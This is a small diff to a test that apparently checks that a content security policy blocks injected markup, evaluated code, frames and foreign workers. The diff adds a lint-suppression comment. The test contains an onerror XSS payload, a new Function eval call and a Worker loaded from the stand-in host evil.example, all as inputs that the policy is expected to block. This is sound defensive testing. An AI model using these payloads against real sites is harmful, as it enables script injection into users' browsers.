@@ -62,6 +62,7 @@ test('the policy blocks markup, inline scripts, evaluated code, frames and forei
         setTimeout(() => {
           const markup = '<img src=x onerror="window.hacked = true">';
           attempt(() => (document.createElement('div').innerHTML = markup));
+          // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to block it.
           attempt(() => new Function('window.hacked = true')());
           attempt(() => new Worker('https://evil.example/worker.js'));
           for (const [name, url] of [
